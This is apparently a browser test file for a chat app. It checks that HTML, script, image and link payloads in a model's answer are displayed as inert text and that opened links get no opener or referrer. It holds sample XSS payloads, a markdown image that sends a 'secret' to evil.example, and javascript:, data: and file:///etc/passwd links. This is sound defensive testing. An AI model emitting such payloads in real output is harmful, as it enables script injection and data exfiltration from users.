"""What a model says is text: it runs nothing, loads nothing, and links only where a link may lead."""

from __future__ import annotations

from tests.browser.chat import answers, facts, send, show_list
from tests.browser.conftest import at_desk
from tests.browser.engine import expect
from tests.browser.model import Model
from tests.browser.visits import Visits

IMAGE = "![secret](http://evil.example/?secret)"
HTML = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script><iframe src=/>"
LINKS = (
    "[run](javascript:document.title='owned') [data](data:text/html,owned) [file](file:///etc/passwd) "
    "[there](https://there.example/a)"
)


async def test_hostile_words_of_a_model_stay_words(visits: Visits, model: Model) -> None:
    page = await visits.open()
    await send(page, HTML)
    said = f"{IMAGE}\n\n{HTML}\n\n{LINKS}\n\n<style>body{{display:none}}</style>\n\n```html\n{HTML}\n```\n"
    await model.answer(*said)
    await expect(facts(page)).to_be_visible()
    answer = answers(page)
    await expect(answer).to_contain_text("<script>document.title='owned'</script>")
    await expect(answer).to_contain_text("<style>body{display:none}</style>")
    for loaded in ("img", "script", "iframe", "style", "object"):
        await expect(answer.locator(loaded)).to_have_count(0)
    links = answer.get_by_role("link")
    hosts = await links.evaluate_all("all => all.map((one) => one.protocol + one.host)")
    assert set(hosts) <= {"https:there.example", "http:evil.example"}
    for rel in await links.evaluate_all("all => all.map((one) => one.rel)"):
        assert {"noopener", "noreferrer", "nofollow"} <= set(rel.split())
    await show_list(page)
    await visits.shot(page, "hostile")
    await expect(page.locator("lt-conversation-list .title")).to_contain_text("<img src=x")
    assert "owned" not in (await page.title()).replace(HTML, "")


@at_desk
async def test_a_link_is_opened_apart_and_is_not_told_where_it_came_from(
    visits: Visits, model: Model
) -> None:
    visits.allow("there.example")
    page = await visits.open()
    await send(page, "Where?")
    await model.answer("[there](https://there.example/a)")
    async with page.context.expect_page() as opening:
        await answers(page).get_by_role("link").click()
    opened = await opening.value
    assert await opened.evaluate("[opener, document.referrer]") == [None, ""]
    await opened.close()
